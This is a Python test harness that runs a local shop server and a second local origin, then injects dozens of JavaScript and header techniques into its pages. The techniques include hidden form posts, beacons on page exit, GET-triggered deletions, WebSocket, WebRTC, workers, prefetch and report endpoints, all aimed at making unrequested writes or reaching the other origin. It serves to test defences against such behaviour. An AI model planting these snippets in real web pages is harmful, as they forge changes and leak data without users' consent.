"""A small shop with three offers, and the ways by which its pages may send what nobody asked for.

    with shop() as one:
        one.way = WAYS["beacon on pagehide"]
        one.take()               # what has arrived at the shop, at the other origin, and by UDP

Each way is put into the list and into the form of every offer. It tries two things where it can: to
write to another offer, and to reach another origin, which is another port of this machine. There a
connection counts though nothing comes over it.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from socketserver import BaseRequestHandler, ThreadingTCPServer
from typing import ClassVar, NamedTuple, cast
from urllib.parse import parse_qsl, urlsplit

OFFERS = {1: ("Spring", "10"), 2: ("Autumn", "15"), 3: ("Winter", "5")}
#: That a task sets, and by which request.
WANTED = ("POST", "/offers/1/", {"name": "Spring", "discount": "25"})
_READING = ("GET", "HEAD", "OPTIONS")


class Arrival(NamedTuple):
    """What came. place: "shop", "elsewhere" or "udp"; method: empty for a connection without a
    request."""

    place: str
    method: str
    path: str
    body: str

    @property
    def writes(self) -> bool:
        """At the shop, what may change it."""
        return self.place == "shop" and self.method not in _READING

    @property
    def is_wanted(self) -> bool:
        """The one change that a person has said yes to."""
        return (self.method, self.path, dict(parse_qsl(self.body))) == WANTED

    @property
    def acts_by_get(self) -> bool:
        """A GET that changes the shop."""
        return self.place == "shop" and self.path.endswith("/delete-now")

    def __str__(self) -> str:
        return f"{self.place}: {self.method} {self.path} {self.body[:80]}".strip()


@dataclass(frozen=True)
class Way:
    """What is put into a page, at the end of its head or of its body, and into its headers."""

    head: str = ""
    body: str = ""
    headers: Mapping[str, str] = field(default_factory=dict)


# --------------------------------------------------------------------------------------------------
# What the pages' scripts share; @HOME@ and @AWAY@ are the two origins.

_HELPERS = """
const H = '@HOME@', A = '@AWAY@', FIELDS = 'name=Winter&discount=99';
const offer = H + '/offers/3/', kind = {'content-type': 'application/x-www-form-urlencoded'};
const quiet = one => { try { one && one.catch && one.catch(() => 0) } catch (e) {} };
const send = keep => {
  const more = {method: 'POST', mode: 'no-cors', keepalive: !!keep, headers: kind, body: FIELDS};
  quiet(fetch(offer, more)); quiet(fetch(A + '/sent', more)); };
const tried = (...all) => all.forEach(one => { try { quiet(one()) } catch (e) {} });
"""
_IN_PAGES = """
var beacon = (w = window) => {
  const text = new Blob([FIELDS], {type: 'application/x-www-form-urlencoded'});
  w.navigator.sendBeacon(offer, text); w.navigator.sendBeacon(A + '/beacon', 'x'); };
const xhr = waits => [offer, A + '/xhr'].forEach(to => { try {
  const one = new XMLHttpRequest(); one.open('POST', to, !waits);
  one.setRequestHeader('content-type', kind['content-type']); one.send(FIELDS); } catch (e) {} });
const form = (target = '', to = offer, page = document, sends = 'submit') => {
  const one = page.createElement('form'); one.method = 'post'; one.action = to;
  one.target = target; one.style.display = 'none';
  for (const [name, value] of new URLSearchParams(FIELDS)) {
    const field = page.createElement('input'); field.type = 'hidden';
    field.name = name; field.value = value; one.append(field); }
  page.body.append(one); one[sends](); };
const on = (event, act) => addEventListener(event, act, true);
const frame = more => { const one = Object.assign(document.createElement('iframe'), more);
  one.style.display = 'none'; document.body.append(one); return one; };
const blob = (text, type) => URL.createObjectURL(new Blob([text], {type}));
const link = (rel, href, more = {}) =>
  document.head.append(Object.assign(document.createElement('link'), {rel, href}, more));
"""
_WRITER = _HELPERS + "send(); send(1);"
_WRITING_PAGE = f"<!doctype html><title>Sends</title><script>{_WRITER}</script>"


def _at_load(script: str) -> Way:
    return Way(f"<script>addEventListener('load', () => {{ {script} }})</script>")


def _on(event: str, script: str) -> Way:
    return Way(f"<script>on('{event}', () => {{ {script} }})</script>")


def _rules(kind: str) -> Way:
    urls = '"/sends", "@AWAY@/ahead"'
    rule = f'{{"source": "list", "urls": [{urls}], "eagerness": "immediate"}}'
    return Way(f'<script type="speculationrules">{{"{kind}": [{rule}]}}</script>')


def _moments() -> Iterator[tuple[str, Way]]:
    """A few calls that send, at each moment at which a page can make them."""
    leaving = ("pagehide", "visibilitychange", "beforeunload", "unload")
    calls = {
        "fetch": ("send()", ("input", "click", "submit")),
        "kept-alive fetch": ("send(1)", leaving),
        "beacon": ("beacon()", leaving),
        "XHR": ("xhr()", ("input",)),
        "XHR that waits": ("xhr(1)", ("pagehide",)),
    }
    for name, (call, moments) in calls.items():
        yield f"{name} at load", _at_load(call)
        for moment in moments:
            yield f"{name} on {moment}", _on(moment, call)
    yield "fetch after a timer", Way("<script>setInterval(() => send(), 400)</script>")


_SOCKETS = "for (const to of [H, A]) tried(() => new WebSocket(to.replace('http', 'ws') + '/ws'));"
_RTC = """const one = new RTCPeerConnection({iceServers: [{urls: [%s], username: 'a',
  credential: 'b'}], iceCandidatePoolSize: 1}); one.createDataChannel('x');
  quiet(one.createOffer().then(told => one.setLocalDescription(told)));"""
_ANSWER = """const ends = 'v=0\\r\\no=- 1 2 IN IP4 127.0.0.1\\r\\ns=-\\r\\nt=0 0\\r\\n'
  + 'm=application @UDP@ UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 127.0.0.1\\r\\n'
  + 'a=candidate:1 1 udp 2113937151 127.0.0.1 @UDP@ typ host\\r\\n'
  + 'a=candidate:2 1 tcp 1518280447 127.0.0.1 @AWAYPORT@ typ host tcptype passive\\r\\n'
  + 'a=ice-ufrag:abcd\\r\\na=ice-pwd:abcdefghijklmnopqrstuvwx\\r\\na=fingerprint:sha-256 '
  + Array(32).fill('AA').join(':') + '\\r\\na=setup:active\\r\\na=mid:0\\r\\n'
  + 'a=sctp-port:5000\\r\\n';
  const one = new RTCPeerConnection(); one.createDataChannel('x');
  quiet(one.createOffer().then(told => one.setLocalDescription(told))
    .then(() => one.setRemoteDescription({type: 'answer', sdp: ends})));"""
_SERVICE = "navigator.serviceWorker.register('/service.js')"
_TWICE = """const one = document.querySelector('form'); if (one) for (let n = 0; n < 3; n++)
  quiet(fetch(one.action, {method: 'POST', headers: kind, keepalive: true,
                           body: new URLSearchParams(new FormData(one))}));"""
_PAY = """const one = new PaymentRequest([{supportedMethods: A + '/pay'}],
  {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}});
  tried(() => one.canMakePayment(), () => one.show());"""
_SIGN = (
    "navigator.credentials.get({identity: {providers: [{configURL: A + '/f.json', clientId: '1'}"
)
_SIGN += "]}, mediation: 'optional'})"

_OTHERS: dict[str, Way] = {
    # Forms, frames and windows.
    "form sent by a script": _at_load("form()"),
    "form sent as by a tap": _at_load("form('', offer, document, 'requestSubmit')"),
    "form into a frame": _at_load("frame({name: 'x'}); form('x'); form('x', A + '/form')"),
    "form into a new window": _at_load("form('_blank'); form('_blank', A + '/form')"),
    "form of a popup": _on(
        "click",
        "const w = open('about:blank'); if (w) { form('', offer, w.document) }",
    ),
    "popup": _on("click", "open('/sends'); open(A + '/popup', '_blank', 'noopener')"),
    "hidden frame": _at_load("frame({src: '/sends'}); frame({src: A + '/frame'})"),
    "frame of a text": _at_load("frame({srcdoc: `@WRITING@`})"),
    "frame of a blob": _at_load("frame({src: blob(`@WRITING@`, 'text/html')})"),
    "frame that is removed": _at_load(
        "const one = frame({}), w = one.contentWindow; beacon(w);"
        "quiet(w.fetch(offer, {method: 'POST', headers: kind, body: FIELDS, keepalive: true}));"
        "one.remove()"
    ),
    "beacon of a removed frame": _at_load(
        "const one = frame({srcdoc: `<script>addEventListener('pagehide', () => "
        "parent.beacon(window))<\\/script>`}); setTimeout(() => one.remove(), 200)"
    ),
    "fenced frame": _at_load(
        "const one = document.createElement('fencedframe'); document.body.append(one);"
        "tried(() => { one.config = new FencedFrameConfig(A + '/fenced') })"
    ),
    # Navigation.
    "another place": _at_load("location = A + '/place'"),
    "script as a place": _at_load("location = 'javascript:send()'"),
    "history": _at_load(
        "history.replaceState(0, '', '/sends'); frame({src: '/sends'}); history.pushState(0, '', "
        "'?x'); if (!sessionStorage.x) { sessionStorage.x = 1; history.go(0) }"
    ),
    "refresh": Way('<meta http-equiv="refresh" content="0;url=@AWAY@/refresh">'),
    "redirect": _at_load(
        "new Image().src = '/leads-away'; frame({src: '/leads-away'});"
        "quiet(fetch('/leads-away', {mode: 'no-cors'}));"
    ),
    "download": _at_load(
        "const one = document.createElement('a'); one.href = A + '/file'; one.download = 'x';"
        "document.body.append(one); one.click()"
    ),
    "ping": _on(
        "click",
        "const one = event.target.closest('a') || document.querySelector('a');"
        "one.ping = A + '/ping ' + offer; if (!event.target.closest('a')) one.click()",
    ),
    # Ahead of what is asked for.
    "link prefetch": _at_load("link('prefetch', A + '/p'); link('prefetch', '/sends')"),
    "link preload": _at_load("link('preload', A + '/p', {as: 'script'})"),
    "link modulepreload": _at_load("link('modulepreload', A + '/p.js')"),
    "link prerender": _at_load("link('prerender', '/sends'); link('prerender', A + '/p')"),
    "link preconnect": _at_load("link('preconnect', A); link('dns-prefetch', A)"),
    "link of a dictionary": _at_load("link('compression-dictionary', A + '/d')"),
    "rules that fetch ahead": _rules("prefetch"),
    "rules that draw ahead": _rules("prerender"),
    # What pages load.
    "images": Way(
        body='<img src="@AWAY@/i" alt=""><img srcset="@AWAY@/i2 1x" alt=""><picture><source '
        'srcset="@AWAY@/i3"><img alt=""></picture><input type="image" src="@AWAY@/i4" hidden>'
    ),
    "scripts": Way('<script src="@AWAY@/s.js"></script><script type="module">import "@AWAY@/m.js"'
                   "</script>"),
    "styles": Way(
        "<style>@import url('@AWAY@/a.css'); body { background: url('@AWAY@/b') } @font-face "
        "{ font-family: x; src: url('@AWAY@/f') } h1 { font-family: x }</style>"
        '<link rel="stylesheet" href="@AWAY@/c.css">'
    ),
    "media": Way(
        body='<video src="@AWAY@/v" autoplay muted poster="@AWAY@/p"><track default kind="captions"'
        ' src="@AWAY@/t"></video><audio src="@AWAY@/a" autoplay></audio>'
    ),
    "plugins": Way(body='<object data="@AWAY@/o"></object><embed src="@AWAY@/e">'),
    "drawings": Way(
        body='<svg width="9" height="9"><use href="@AWAY@/u#x"/><image href="@AWAY@/g"/><filter '
        'id="q"><feImage href="@AWAY@/fe"/></filter><rect width="5" height="5" filter="url(#q)"/>'
        "</svg>"
    ),
    "document.write": Way(body="<script>document.write('<script src=\"' + A + '/w.js\"><\\/script>"
                          "<img src=\"' + A + '/w\">')</script>"),
    "import of a module": _at_load("quiet(import(A + '/i.js')); quiet(import('/writer.js'))"),
    "icon": Way('<link rel="icon" href="@AWAY@/icon.png"><link rel="apple-touch-icon" '
                'href="@AWAY@/touch.png">'),
    "manifest": Way('<link rel="manifest" href="/manifest.json"><link rel="manifest" '
                    'href="@AWAY@/manifest.json">'),
    "stylesheet of a text": _at_load("frame({src: '/list.xml'})"),
    "attribution": Way(
        body='<img attributionsrc="@AWAY@/at" src="/x.png" alt=""><script attributionsrc="@AWAY@/a"'
        ' src="/x.js"></script>',
    ),
    "acting address": Way(
        body='<img src="/offers/3/delete-now" alt=""><iframe hidden src="/offers/2/delete-now">'
        "</iframe>"
    ),
    # Workers.
    "worker": _at_load("new Worker('/writer.js')"),
    "worker of a blob": _at_load("new Worker(blob(`@WRITER@`, 'text/javascript'))"),
    "worker of data": _at_load("new Worker('data:text/javascript,' + encodeURIComponent(`@WRITER@`"
                               "))"),
    "shared worker": _at_load("new SharedWorker('/writer.js')"),
    "shared worker of a blob": _at_load("new SharedWorker(blob(`@WRITER@`, 'text/javascript'))"),
    "shared worker of elsewhere": _at_load(
        "tried(() => new SharedWorker(A + '/i.js'), () => new SharedWorker('/imports.js'))"
    ),
    "service worker": _at_load(f"quiet({_SERVICE})"),
    "background fetch and sync": _at_load(
        f"quiet({_SERVICE}.then(() => navigator.serviceWorker.ready).then(one => tried("
        "() => one.backgroundFetch.fetch('x', [A + '/b']), () => one.sync.register('x'),"
        "() => one.pushManager.subscribe({userVisibleOnly: true}))))"
    ),
    "worklets": _at_load(
        "tried(() => new AudioContext().audioWorklet.addModule('/imports.js'),"
        "() => CSS.paintWorklet.addModule('/imports.js'),"
        "() => new AudioContext().audioWorklet.addModule(A + '/i.js'),"
        "() => sharedStorage.worklet.addModule(A + '/i.js'))"
    ),
    # Other protocols.
    "WebSocket": _at_load(_SOCKETS),
    "WebTransport": _at_load(
        "tried(() => new WebTransport(A.replace('http:', 'https:') + '/t').ready,"
        "() => new WebTransport('https://127.0.0.1:@UDP@/t').ready)"
    ),
    "EventSource": _at_load("new EventSource(A + '/events')"),
    "WebRTC, STUN": _at_load(_RTC % "'stun:127.0.0.1:@UDP@'"),
    "WebRTC, TURN over TCP": _at_load(
        _RTC % "'turn:127.0.0.1:@AWAYPORT@?transport=tcp', 'turn:127.0.0.1:@UDP@'"
    ),
    "WebRTC, data channel": _at_load(_ANSWER),
    # What the browser sends by itself.
    "report of a policy": Way(
        body='<img src="@AWAY@/i" alt="">',
        headers={
            "Content-Security-Policy": "img-src 'none'; report-uri /offers/3/ @AWAY@/csp",
            "Content-Security-Policy-Report-Only": "script-src 'none'; report-uri @AWAY@/csp",
        },
    ),
    "reports": Way(
        "<script>tried(() => { const one = new XMLHttpRequest(); one.open('GET', '/x', false);"
        "one.send() })</script>",
        headers={
            "Reporting-Endpoints": 'default="@AWAY@/r", own="@HOME@/offers/3/"',
            "Report-To": '{"group":"default","max_age":999,"endpoints":[{"url":"@AWAY@/r"}]}',
            "NEL": '{"report_to":"default","max_age":999,"success_fraction":1.0}',
            "Content-Security-Policy-Report-Only": "img-src 'none'; report-to own",
            "Permissions-Policy-Report-Only": "camera=();report-to=default",
        },
    ),
    "later": Way("<script>tried(() => fetchLater(offer, {method: 'POST', headers: kind, body: "
                 "FIELDS}), () => fetchLater(A + '/l', {activateAfter: 0}))</script>"),
    "payment at a click": _on("click", _PAY),
    "sign-in by another at a click": _on("click", f"tried(() => {_SIGN})"),
    # The change that was asked for, once more.
    "the same again": _on("submit", _TWICE),
    "the same again as it leaves": _on("pagehide", _TWICE),
    "sent twice": _on("submit", "const one = document.querySelector('form'); one.submit(); one"
                      ".submit()"),
    "another record": _on("mousedown", "document.querySelector('form').action = '/offers/2/'"),
}  # fmt: skip

#: By name.
WAYS: dict[str, Way] = dict(_moments()) | _OTHERS


# --------------------------------------------------------------------------------------------------
# The shop, the other origin, and what counts.


class Shop:
    """way: in the pages now. hook: told "connected", "received" and "answered", of each connection
    and of each write, before it goes on."""

    def __init__(self) -> None:
        self.way = Way()
        self.hook: Callable[[str], None] = lambda _: None
        self.home, self.away, self.udp = "", "", 0
        self.offers = {key: list(one) for key, one in OFFERS.items()}
        self._lock = threading.Lock()
        self._arrived: list[Arrival] = []

    def begin(self, way: Way | None = None) -> None:
        """Offers as at first, and nothing has arrived."""
        self.way, self.hook = way or Way(), lambda _: None
        self.offers = {key: list(one) for key, one in OFFERS.items()}
        self.take()

    def note(self, *arrived: str) -> None:
        """Write down what came."""
        with self._lock:
            self._arrived.append(Arrival(*arrived))

    def take(self) -> list[Arrival]:
        """What has come since the last call."""
        with self._lock:
            found, self._arrived = self._arrived, []
        return found

    def peek(self) -> list[Arrival]:
        """What has come since the last call of `take`."""
        with self._lock:
            return list(self._arrived)

    def filled(self, text: str) -> str:
        """With the addresses of now."""
        writing = _WRITING_PAGE.replace("</script>", "<\\/script>")
        values = {"WRITING": writing, "WRITER": _WRITER, "HOME": self.home, "AWAY": self.away}
        values |= {"UDP": str(self.udp), "AWAYPORT": self.away.rpartition(":")[2]}
        for name, value in values.items():
            text = text.replace(f"@{name}@", value)
        return text

    def page(self, title: str, body: str) -> str:
        """A page, with the way in it."""
        scripts = f"<script>{_HELPERS}{_IN_PAGES}</script>{self.way.head}"
        head = f'<!doctype html><html lang="en"><head><title>{title}</title>'
        head += self.filled(scripts) if self.way != Way() else ""
        return (
            f"{head}</head><body><h1>{title}</h1>{body}{self.filled(self.way.body)}</body></html>"
        )

    def text_of(self, path: str) -> tuple[str, str]:
        """Kind and text of an address; an empty text where there is none."""
        if path == "/":
            return "text/html", self.page("Offers", self._rows())
        number = path.removeprefix("/offers/").strip("/")
        if path.startswith("/offers/") and number.isdigit() and int(number) in self.offers:
            name, discount = self.offers[int(number)]
            body = (
                f'<form method="post" action="{path}"><label>Name <input name="name" '
                f'value="{name}"></label><label>Discount <input type="number" name="discount" '
                'min="0" max="100" '
                f'value="{discount}"></label><button type="submit">Save</button></form>'
                '<a href="/">Offers</a>'
            )
            return "text/html", self.page("Offer", body)
        kind, text = _FILES.get(path, ("text/plain", ""))
        return kind, self.filled(text)

    def _rows(self) -> str:
        rows = "".join(
            f"<tr><td>{name}</td><td>{discount}</td><td><a href='/offers/{key}/'>Edit</a></td></tr>"
            for key, (name, discount) in sorted(self.offers.items())
        )
        head = "<tr><th>Name</th><th>Discount</th><th></th></tr>"
        return f"<table><thead>{head}</thead><tbody>{rows}</tbody></table>"


_SCRIPT = "text/javascript"
_FILES = {
    "/sends": ("text/html", _WRITING_PAGE),
    "/registers": ("text/html", f"<!doctype html><title>R</title><script>{_SERVICE}</script>"),
    "/writer.js": (_SCRIPT, _WRITER),
    "/imports.js": (_SCRIPT, "import '@AWAY@/i.js';"),
    "/service.js": (
        _SCRIPT,
        f"{_HELPERS} for (const one of ['install', 'activate', 'fetch', 'sync', 'push'])"
        "  addEventListener(one, () => send());",
    ),
    "/rules.json": (
        "application/speculationrules+json",
        '{"prefetch": [{"source": "list", "urls": ["@AWAY@/ahead", "/sends"], "eagerness": '
        '"immediate"}]}',
    ),
    "/manifest.json": (
        "application/manifest+json",
        '{"name": "x", "start_url": "/", "icons": [{"src": "@AWAY@/icon", "sizes": "144x144"}]}',
    ),
    "/list.xml": (
        "text/xml",
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="/list.xsl"?><?xml-stylesheet '
        'type="text/css" href="@AWAY@/x.css"?><list/>',
    ),
    "/list.xsl": (
        "text/xsl",
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        '<xsl:import href="@AWAY@/x.xsl"/><xsl:template match="/"><img src="@AWAY@/x"/>'
        "<xsl:copy-of select=\"document('@AWAY@/x.xml')\"/></xsl:template></xsl:stylesheet>",
    ),
}


class _HomeServer(ThreadingHTTPServer):
    daemon_threads = True
    shop: ClassVar[Shop]


class _Home(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_: object) -> None:
        """Nothing."""

    def handle(self) -> None:
        """One connection; one that breaks is no fault of the shop's."""
        self._shop.hook("connected")
        with suppress(OSError):
            super().handle()

    @property
    def _shop(self) -> Shop:
        return cast(_HomeServer, self.server).shop

    def do_GET(self) -> None:
        shop, path = self._shop, urlsplit(self.path).path
        shop.note("shop", self.command, self.path, "")
        number = path.removeprefix("/offers/").removesuffix("/delete-now")
        if path == "/leads-away":
            return self._answer(302, "text/plain", "", {"Location": f"{shop.away}/led"})
        if path.endswith("/delete-now") and number.isdigit():
            return self._answer(200, "text/plain", "gone")
        kind, text = shop.text_of(path)
        more = shop.way.headers if kind == "text/html" else {"Service-Worker-Allowed": "/"}
        headers = {key: shop.filled(value) for key, value in more.items()}
        self._answer(200 if text else 404, kind, text, headers)

    def do_POST(self) -> None:
        shop, path = self._shop, urlsplit(self.path).path
        size = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(size).decode("utf-8", "replace")
        shop.note("shop", self.command, self.path, body)
        shop.hook("received")
        fields, number = dict(parse_qsl(body)), path.removeprefix("/offers/").strip("/")
        if number.isdigit() and int(number) in shop.offers and "discount" in fields:
            shop.offers[int(number)] = [fields.get("name", ""), fields["discount"]]
        with suppress(OSError):
            self._answer(303, "text/plain", "", {"Location": "/"})
        shop.hook("answered")

    do_HEAD = do_OPTIONS = do_GET
    do_PUT = do_PATCH = do_DELETE = do_POST

    def _answer(
        self, status: int, kind: str, text: str, more: Mapping[str, str] | None = None
    ) -> None:
        data = text.encode()
        self.send_response(status)
        headers = {"Content-Type": kind, "Content-Length": str(len(data))}
        for name, value in (headers | dict(more or {})).items():
            self.send_header(name, value)
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(data)


class _AwayServer(ThreadingTCPServer):
    daemon_threads = True
    request_queue_size = 128
    shop: ClassVar[Shop]


class _Away(BaseRequestHandler):
    """The other origin: it counts a connection, and answers as if it were a server."""

    def handle(self) -> None:
        shop = cast(_AwayServer, self.server).shop
        self.request.settimeout(5)
        data = b""
        with suppress(OSError):
            data = self.request.recv(1 << 16)
        method, _, rest = data.split(b"\r\n")[0].decode("latin-1")[:200].partition(" ")
        shop.note("elsewhere", ascii(method)[1:-1], ascii(rest)[1:-1], "")
        path = rest.partition(" ")[0].partition("?")[0]
        script = shop.filled(_WRITER)
        kind = _SCRIPT if path.endswith(".js") else "text/html"
        text = script if kind == _SCRIPT else f"<title>Elsewhere</title><script>{script}</script>"
        lines = (
            f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(text.encode())}\r\n"
            "Access-Control-Allow-Origin: *\r\nSupports-Loading-Mode: fenced-frame\r\n"
            "Connection: close\r\n\r\n"
        )
        with suppress(OSError):
            self.request.sendall((lines + text).encode())


@contextmanager
def shop() -> Iterator[Shop]:
    """The shop, the other origin, and a port for UDP, until the block ends."""
    one = Shop()
    home = type("_", (_HomeServer,), {"shop": one})(("127.0.0.1", 0), _Home)
    away = type("_", (_AwayServer,), {"shop": one})(("127.0.0.1", 0), _Away)
    one.home = f"http://127.0.0.1:{home.server_address[1]}"
    one.away = f"http://127.0.0.1:{away.server_address[1]}"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        packets.bind(("127.0.0.1", 0))
        packets.settimeout(0.2)
        one.udp = packets.getsockname()[1]
        ended = threading.Event()

        def count() -> None:
            while not ended.is_set():
                with suppress(OSError):
                    one.note("udp", "packet", ascii(packets.recvfrom(1 << 16)[0][:20]), "")

        threads = [threading.Thread(target=count, daemon=True)]
        threads += [
            threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
            for server in (home, away)
        ]
        for thread in threads:
            thread.start()
        try:
            yield one
        finally:
            ended.set()
            threads[0].join()
            for server in (home, away):
                server.shutdown()
                server.server_close()
